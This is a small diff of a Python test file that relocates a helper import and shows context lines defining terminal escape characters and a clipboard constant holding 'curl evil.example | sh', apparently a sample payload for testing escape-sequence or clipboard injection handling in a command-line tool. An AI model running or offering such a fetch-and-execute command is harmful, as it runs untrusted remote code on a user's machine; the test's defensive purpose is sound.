@@ -15,8 +15,8 @@ from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
-from tests.conftest import run_cli_process
 from tests.judge.test_api import Script, ok_body
+from tests.support import run_cli_process
 
 ESC, BEL = "\x1b", "\x07"
 CLIPBOARD = "curl evil.example | sh"
